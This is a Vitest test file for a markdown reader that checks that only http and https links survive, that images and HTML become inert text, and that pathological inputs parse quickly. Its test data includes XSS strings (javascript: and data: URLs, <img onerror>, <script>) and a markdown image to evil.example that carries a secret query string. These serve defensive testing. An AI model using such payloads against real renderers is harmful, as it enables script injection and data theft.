import { describe, expect, it } from 'vitest'
import { readMarkdown, type Block, type Inline } from './read-markdown.ts'

const plain = (parts: readonly Inline[]): string =>
  parts.map((part) => ('children' in part ? plain(part.children) : part.text)).join('')
const links = (blocks: readonly Block[]): string[] =>
  JSON.stringify(blocks)
    .match(/"href":"[^"]+"/g)
    ?.map((link) => link.slice(8, -1)) ?? []

describe('markdown of an answer', () => {
  it('is paragraphs, headings, lists, tables, code and what stands inside of them', () => {
    const blocks = readMarkdown(
      '# Head\nOne **two *three*** `four`\nfive\n\n- a\n- b\n  goes on\n\n2. x\n3. y\n\n```js\nlet a = "<b>"\n```\n\n| A | B |\n|---|---|\n| 1 | **2** |\n\n> said',
    )
    expect(blocks.map(({ kind }) => kind)).toEqual(['heading', 'paragraph', 'list', 'list', 'code', 'table', 'quote'])
    expect(blocks[2]).toMatchObject({ ordered: false, items: [[{ text: 'a' }], [{ text: 'b goes on' }]] })
    expect(blocks[3]).toMatchObject({ ordered: true, start: 2 })
    expect(blocks[4]).toEqual({ kind: 'code', text: 'let a = "<b>"' })
    expect(readMarkdown('**1** of 2')).toEqual([
      {
        kind: 'paragraph',
        children: [
          { kind: 'strong', children: [{ kind: 'text', text: '1' }] },
          { kind: 'text', text: ' of 2' },
        ],
      },
    ])
    expect(plain((blocks[1] as { children: Inline[] }).children)).toBe('One two three four\nfive')
  })

  it('links to http and https only', () => {
    expect(links(readMarkdown('[a](https://a.example/x) and https://b.example/y.'))).toEqual([
      'https://a.example/x',
      'https://b.example/y',
    ])
    for (const target of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'data:text/html,<script>',
      'vbscript:x',
      'file:///etc/passwd',
      '//evil.example',
      '/settings',
      'java\u0000script:x',
      '&#106;avascript:x',
    ])
      expect([target, links(readMarkdown(`[click](${target})`))]).toEqual([target, []])
  })

  it('has no images and no HTML: they are words', () => {
    const hostile =
      '![x](https://evil.example/?q=secret)\n<img src=x onerror=alert(1)><script>alert(1)</script>\n[![i](https://evil.example/i)](https://evil.example/)'
    const blocks = readMarkdown(hostile)
    expect(JSON.stringify(blocks)).not.toContain('?q=secret')
    expect(new Set(blocks.map(({ kind }) => kind))).toEqual(new Set(['paragraph']))
    expect(plain((blocks[0] as { children: Inline[] }).children)).toContain('<script>alert(1)</script>')
  })

  it('takes back what escapes say, and leaves what is unfinished as it is', () => {
    expect(plain((readMarkdown('\\*not\\* \\<b\\>')[0] as { children: Inline[] }).children)).toBe('*not* <b>')
    expect(plain((readMarkdown('half **bold and [a li')[0] as { children: Inline[] }).children)).toBe(
      'half **bold and [a li',
    )
    expect(readMarkdown('```\nhalf')).toEqual([{ kind: 'code', text: 'half' }])
  })

  it('is read in time, whatever it holds', () => {
    const before = performance.now()
    for (const text of [
      '*'.repeat(20_000),
      '['.repeat(20_000),
      '`'.repeat(20_001),
      '**a '.repeat(5000),
      '[a]('.repeat(5000),
      '!['.repeat(10_000),
      '_a'.repeat(10_000),
    ])
      readMarkdown(text)
    expect(performance.now() - before).toBeLessThan(3000)
  })
})
